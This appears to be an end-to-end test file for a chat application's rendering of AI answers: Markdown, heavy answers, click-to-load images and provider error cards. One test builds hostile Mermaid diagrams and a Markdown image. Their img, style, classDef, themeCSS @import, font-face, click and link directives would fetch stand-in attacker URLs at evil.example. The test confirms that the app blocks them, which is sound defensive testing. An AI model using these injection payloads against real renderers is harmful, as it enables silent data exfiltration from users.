/** What an answer looks like, and what an answer that failed says. */
import { readFile } from 'node:fs/promises'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { chatRoutes } from '@atrium/contract/chat'
import { local, openTestApp } from '../harness/test-app.ts'
import { look } from '../harness/look.ts'
import { answered, ask, composer, lastMessage, pickModel } from '../harness/talk.ts'
import { expect, smallPicture, test } from '../harness/test.ts'

const testApp = openTestApp({ models: ['echo', 'markdown'] })

test('Markdown is drawn: headings, lists, code, tables, formulas, a diagram, and either direction of writing', async ({
  visit,
}) => {
  const page = await visit(testApp, testApp.admin)
  await page.goto('/')
  await pickModel(page, 'markdown')
  await ask(page, 'Show me everything')
  await answered(page)
  const answer = lastMessage(page)
  await expect(answer.getByRole('heading', { name: 'A tour of Markdown' })).toBeVisible()
  await expect(answer.getByRole('checkbox', { name: 'Flour' })).toBeChecked()
  await expect(answer.getByRole('checkbox', { name: 'Salt' })).not.toBeChecked()
  const table = answer.getByRole('table')
  await expect(table.getByRole('columnheader')).toHaveText(['City', 'Country', 'People'])
  await expect(table.getByRole('row', { name: 'Cairo' })).toContainText('10,100,000')
  // Formulas are there for eyes and for screen readers.
  await expect(answer.locator('math')).toHaveCount(2)
  await expect(answer.locator('.katex-html').first()).toBeVisible()
  const diagram = answer.getByRole('img', { name: /^Diagram drawn from: flowchart LR/ })
  await expect(diagram).toBeVisible()
  expect((await diagram.boundingBox())?.width).toBeGreaterThan(200)
  await expect(answer.getByText('مرحبا بالعالم')).toHaveCSS('direction', 'rtl')
  await expect(answer.getByText('Raw HTML')).toBeVisible()

  const code = answer.getByRole('figure', { name: 'Code: TypeScript' })
  await expect(code.locator('[class^="tok-"]').first()).toBeVisible()
  await code.getByRole('button', { name: 'Copy code' }).click()
  const copied = () => page.evaluate<string>('navigator.clipboard.readText()')
  await expect.poll(copied).toContain('export function greet({ name }: Greeting)')

  await answer.getByRole('button', { name: 'Copy as Markdown' }).click()
  await expect.poll(copied).toMatch(/^# A tour of Markdown\n[^]*That was all\.\n?$/)
})

test('nothing in an answer loads by itself: hostile diagrams are drawn without what they would fetch', async ({
  visit,
}) => {
  const near = (name: string) => `/api/chat/pictures?url=https://evil.example/stolen-${name}`
  const style = (name: string) => `url(${near(name)})`
  const diagrams = [
    `flowchart LR\n  A@{ img: "${near('img')}", label: "First", w: 60, h: 60 } --> B[Second]`,
    `flowchart LR\n  A@{\n    img: "${near('yaml')}"\n    label: First\n  }\n  A --> B`,
    `flowchart LR\n  A --> B\n  style A fill:${style('style')}`,
    `flowchart LR\n  A:::x --> B\n  classDef x fill:#fff,background:${style('class')}`,
    `flowchart LR\n  A --> B\n  linkStyle 0 stroke:\\75rl(${near('escape')})`,
    `%%{init: {"themeVariables": {"primaryColor": "${style('theme')}"}, "themeCSS": "@import '${near('import')}';"}}%%\nflowchart LR\n  A --> B`,
    `---\nconfig:\n  themeCSS: "@font-face { font-family: x; src: ${style('font')} } * { font-family: x }"\n---\nflowchart LR\n  A --> B`,
    `flowchart LR\n  A["<img src='${near('label')}'>First"] --> B`,
    `flowchart LR\n  A --> B\n  click A href "https://evil.example/stolen-click"`,
    `sequenceDiagram\n  participant A\n  link A: Board @ https://evil.example/stolen-link\n  A->>A: hello`,
    `classDiagram\n  class A\n  style A fill:${style('classes')}\n  link A "https://evil.example/stolen-class"`,
  ]
  const picture = `![A tree](${testApp.url}${near('markdown')})`
  const answerText = [...diagrams.map((source) => `\`\`\`mermaid\n${source}\n\`\`\``), picture, 'That was all.'].join(
    '\n\n',
  )
  testApp.provider.control({ answers: [{ match: 'hostile', answer: answerText }] })
  try {
    const page = await visit(testApp, testApp.admin)
    const asked: string[] = []
    page.on('request', (request) => asked.push(request.url()))
    await page.goto('/')
    await pickModel(page, 'echo')
    await ask(page, 'Something hostile')
    await answered(page)
    const answer = lastMessage(page)
    await expect(answer.getByRole('img', { name: /^Diagram drawn from/ })).toHaveCount(diagrams.length, {
      timeout: 120_000,
    })
    await expect(answer.getByText('were removed from this diagram')).toHaveCount(diagrams.length)
    // Of each way in one: an image, a style, a class, settings.
    for (const index of [0, 2, 3, 6]) {
      const button = answer.getByRole('button', { name: 'Save as SVG' }).nth(index)
      const [saved] = await Promise.all([page.waitForEvent('download'), button.click()])
      const svg = await readFile(await saved.path(), 'utf8')
      expect(svg).toContain('<svg')
      expect(svg).not.toMatch(/stolen|<image|<a[ >]|@import|foreignObject|url\((?!"?#|data:font\/woff2;)/i)
    }
    // A picture that names this server is asked for by its address alone, which makes the server fetch nothing.
    expect(asked.filter((url) => url.includes('stolen') && !url.includes('stolen-markdown'))).toEqual([])
    await page.setViewportSize({ width: 1440, height: 2400 })
    await look(page, 'answer-hostile-diagrams', { themes: ['light'] })
    // Diagrams are drawn anew for a theme.
    await page.emulateMedia({ colorScheme: 'dark' })
    await expect(page.locator('html')).toHaveAttribute('data-theme', 'dark')
    await look(page, 'answer-hostile-diagrams', { themes: ['dark'] })
  } finally {
    testApp.provider.control({ answers: [] })
  }
})

test('an answer that would hold the page is shown as plain text, with a way to have it drawn', async ({ visit }) => {
  const answer = `Some tags: ${'<b>x</b>'.repeat(50_000)}`
  testApp.provider.control({
    answers: [
      { match: 'tags', answer },
      { match: 'emphasis', answer: '_a'.repeat(100_000) },
    ],
  })
  try {
    const page = await visit(testApp, testApp.admin)
    await page.goto('/')
    await pickModel(page, 'echo')
    await ask(page, 'Many tags')
    await answered(page)
    await expect(lastMessage(page)).toContainText('Shown as plain text')
    await ask(page, 'Much emphasis')
    await answered(page)
    await expect(lastMessage(page).getByRole('button', { name: 'Show formatted' })).toBeVisible()
    await look(page, 'answer-heavy')
    await page.reload()
    await expect(lastMessage(page)).toContainText('Shown as plain text')
    await composer(page).fill('Still usable')
    await expect(composer(page)).toHaveValue('Still usable')
  } finally {
    testApp.provider.control({ answers: [] })
  }
})

test('a picture from elsewhere is asked for after a click only, of the own server, which reaches nothing private', async ({
  visit,
}) => {
  const fetched: string[] = []
  const elsewhere = createServer((req, res) => {
    fetched.push(req.url ?? '')
    res.writeHead(200, { 'content-type': 'image/png' }).end(smallPicture)
  })
  await new Promise<void>((listening) => elsewhere.listen(0, '127.0.0.1', listening))
  const host = `127.0.0.1:${(elsewhere.address() as AddressInfo).port}`
  const text = `Here: ![A tree](http://${host}/tree.png) and [more](https://example.com/page)`
  testApp.provider.control({ answers: [{ match: 'a picture', answer: text }] })
  try {
    const page = await visit(testApp, testApp.admin)
    const asked: string[] = []
    page.on('request', (request) => asked.push(request.url()))
    await page.goto('/')
    await pickModel(page, 'echo')
    await ask(page, 'Show me a picture')
    await answered(page)
    const answer = lastMessage(page)
    const load = answer.getByRole('button', { name: `Load from ${host}` })
    await load.scrollIntoViewIfNeeded()
    const pictures = () => asked.filter((url) => url.includes('tree.png') || url.includes('/api/chat/pictures'))
    expect(pictures()).toEqual([])
    await load.click()
    await expect(answer).toContainText('Couldn’t load this image: A tree')
    expect(pictures()).toEqual([`${testApp.url}/api/chat/pictures`])
    expect(fetched).toEqual([])

    await answer.getByRole('link', { name: 'more' }).click()
    const dialog = page.getByRole('dialog', { name: 'Open example.com?' })
    await expect(dialog).toContainText('https://example.com/page')
    await dialog.getByRole('button', { name: 'Cancel' }).click()
    await expect(dialog).toHaveCount(0)
  } finally {
    testApp.provider.control({ answers: [] })
    elsewhere.close()
  }
})

test('a provider that fails is told of in words, what was written stays, and Retry answers', async ({ visit }) => {
  const page = await visit(testApp, testApp.admin)
  const { id } = await testApp.admin.api.call(chatRoutes.create, { body: { selection: local('echo') } })
  await page.goto(`/chats/${id}`)
  const card = lastMessage(page).getByRole('alert')
  for (const { fault, title, says } of [
    { fault: 'status-500', title: 'The provider returned an error', says: /500/ },
    { fault: 'status-429', title: 'The provider rejected the request', says: /429/ },
    { fault: 'status-401', title: 'Check this connection', says: /API key/ },
    { fault: 'reset', title: 'The provider', says: /./ },
    { fault: 'half-json', title: 'The provider', says: /./ },
  ] as const)
    await test.step(fault, async () => {
      const question = `Does ${fault} stay after three words`
      testApp.provider.control({ fault, times: null, after: 3 })
      await ask(page, question)
      // That one asks to wait seven seconds, which are counted down.
      if (fault === 'status-429')
        await expect(card.getByRole('button', { name: /^Try again in \d seconds?$/ })).toBeVisible()
      await expect(card).toContainText(title)
      await expect(card).toContainText(says)
      await expect(page.getByText('sk-leaked-in-body')).toHaveCount(0)
      if (!fault.startsWith('status-')) await expect(lastMessage(page)).toContainText('You said: Does')
      await page.reload()
      await expect(card).toContainText(title)

      testApp.provider.control({ fault: null })
      await card.getByRole('button', { name: /^Try again/ }).click()
      await expect(lastMessage(page)).toContainText(`You said: ${question}`)
      await expect(lastMessage(page).getByRole('alert')).toHaveCount(0)
      await answered(page)
    })
})
